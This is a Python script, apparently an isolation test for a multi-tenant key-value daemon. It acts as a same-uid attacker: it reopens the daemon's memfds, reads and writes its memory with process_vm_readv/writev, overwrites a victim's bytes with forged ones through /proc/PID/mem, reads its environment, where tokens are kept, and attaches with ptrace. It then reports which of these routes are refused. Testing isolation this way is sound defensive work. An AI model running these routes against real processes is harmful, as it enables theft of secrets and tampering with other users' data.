"""A process of the daemon's uid, without capabilities, going after another tenant's pages:
``python same_uid_attacker.py PID MARKER_HEX FORGED_HEX`` prints one JSON object, per route
what it got (or the error that refused it).

Routes: reopening the daemon's memfds through ``/proc/PID/fd`` (and looking for the victim's
K/V bytes, ``MARKER``, in them; mapping them writable), ``/proc/PID/map_files``, reading and
writing its memory through ``process_vm_readv``/``process_vm_writev`` (writing back what it
read), writing ``FORGED`` over ``MARKER`` in its published memory through ``/proc/PID/mem``,
reading ``/proc/PID/environ``, and ``ptrace`` (``PTRACE_SEIZE``, which does not stop the
daemon; detached at exit).
"""

from __future__ import annotations

import ctypes
import errno
import json
import mmap
import os
import sys

PTRACE_SEIZE = 0x4206
GUESS_ADDRESS = 0x10000  # where nothing told the attacker an address: refused before looked at
MEMFD_PREFIX = "/memfd:kvstore-"
libc = ctypes.CDLL(None, use_errno=True)


def _refused(exc: OSError) -> dict:
    return {"refused": errno.errorcode.get(exc.errno, str(exc.errno))}


def _memfd_mappings(pid: int) -> list[tuple[int, int]] | None:
    """The daemon's mappings of its memfds, (start, end), or None where maps is refused."""
    try:
        with open(f"/proc/{pid}/maps") as maps:
            lines = maps.read().splitlines()
    except OSError:
        return None
    found = []
    for line in lines:
        fields = line.split(maxsplit=5)
        if len(fields) == 6 and fields[5].startswith(MEMFD_PREFIX):
            start, end = (int(x, 16) for x in fields[0].split("-"))
            found.append((start, end))
    return found


def reopen_memfds(pid: int, marker: bytes) -> dict:
    """Open every descriptor of the daemon that is a memfd; which ones, whether the victim's
    bytes are in one, whether one maps writable (a staging region)."""
    result: dict = {"memfds": 0, "kv_found": False, "mapped_writable": 0, "errors": []}
    try:
        candidates = sorted(int(n) for n in os.listdir(f"/proc/{pid}/fd"))
    except OSError as exc:
        result["listing"] = _refused(exc)
        candidates = list(range(1024))  # blind: the descriptors are small numbers
    errors = set()
    for number in candidates:
        try:
            fd = os.open(f"/proc/{pid}/fd/{number}", os.O_RDWR)
        except OSError as exc:
            errors.add(errno.errorcode.get(exc.errno, str(exc.errno)))
            continue
        try:
            if not os.readlink(f"/proc/self/fd/{fd}").startswith(MEMFD_PREFIX):
                continue
            result["memfds"] += 1
            size = os.fstat(fd).st_size
            if size:
                with mmap.mmap(fd, size, prot=mmap.PROT_READ) as view:
                    result["kv_found"] |= view.find(marker) >= 0
                try:
                    mmap.mmap(fd, size, prot=mmap.PROT_READ | mmap.PROT_WRITE).close()
                    result["mapped_writable"] += 1
                except OSError:
                    pass  # a sealed published step
        finally:
            os.close(fd)
    result["errors"] = sorted(errors)
    return result


def list_map_files(pid: int) -> dict:
    try:
        entries = os.listdir(f"/proc/{pid}/map_files")
    except OSError as exc:
        return _refused(exc)
    result: dict = {"entries": len(entries)}
    for start, end in _memfd_mappings(pid) or []:
        try:
            os.close(os.open(f"/proc/{pid}/map_files/{start:x}-{end:x}", os.O_RDONLY))
            result["opened_memfd"] = True
        except OSError as exc:
            result["open"] = _refused(exc)
        break
    return result


class _IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def _vm(fn_name: str, pid: int, buffer: ctypes.Array, address: int) -> int:
    fn = getattr(libc, fn_name)
    fn.restype = ctypes.c_ssize_t
    local = _IoVec(ctypes.cast(buffer, ctypes.c_void_p), len(buffer))
    remote = _IoVec(address, len(buffer))
    done = fn(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    if done < 0:
        raise OSError(ctypes.get_errno(), fn_name)
    return done


def vm_read_write(pid: int) -> dict:
    """process_vm_readv of 64 bytes of a memfd mapping (or a guess), then process_vm_writev
    of the same bytes back: nothing changes, but the write went through or was refused."""
    mappings = _memfd_mappings(pid)
    address = mappings[0][0] if mappings else GUESS_ADDRESS
    buffer = ctypes.create_string_buffer(64)
    result = {}
    try:
        result["vm_readv"] = {"bytes": _vm("process_vm_readv", pid, buffer, address)}
    except OSError as exc:
        result["vm_readv"] = _refused(exc)
    try:
        result["vm_writev"] = {"bytes": _vm("process_vm_writev", pid, buffer, address)}
    except OSError as exc:
        result["vm_writev"] = _refused(exc)
    return result


def forge_through_mem(pid: int, marker: bytes, forged: bytes) -> dict:
    """Open /proc/PID/mem for writing; where it opens, overwrite ``marker`` with ``forged`` in
    the daemon's memfd mappings (its published pages)."""
    try:
        fd = os.open(f"/proc/{pid}/mem", os.O_RDWR)
    except OSError as exc:
        return _refused(exc)
    result = {"opened": True, "forged": 0}
    try:
        for start, end in _memfd_mappings(pid) or []:
            try:
                data = os.pread(fd, end - start, start)
            except OSError:
                continue
            at = data.find(marker)
            while at >= 0:
                try:
                    result["forged"] += os.pwrite(fd, forged, start + at) == len(forged)
                except OSError as exc:
                    result["write"] = _refused(exc)
                at = data.find(marker, at + 1)
    finally:
        os.close(fd)
    return result


def read_environ(pid: int) -> dict:
    """The daemon's environment: tokens given as KVSTORE_SERVER__* variables are in it."""
    try:
        with open(f"/proc/{pid}/environ", "rb") as environ:
            return {"variables": environ.read().count(b"\0")}
    except OSError as exc:
        return _refused(exc)


def seize(pid: int) -> dict:
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p]
    if libc.ptrace(PTRACE_SEIZE, pid, None, None) != 0:
        return _refused(OSError(ctypes.get_errno(), "ptrace"))
    return {"seized": True}


def main() -> None:
    pid, marker, forged = int(sys.argv[1]), bytes.fromhex(sys.argv[2]), bytes.fromhex(sys.argv[3])
    report = {"fd": reopen_memfds(pid, marker), "map_files": list_map_files(pid),
              **vm_read_write(pid), "mem": forge_through_mem(pid, marker, forged),
              "environ": read_environ(pid), "ptrace": seize(pid)}
    print(json.dumps(report))


if __name__ == "__main__":
    main()
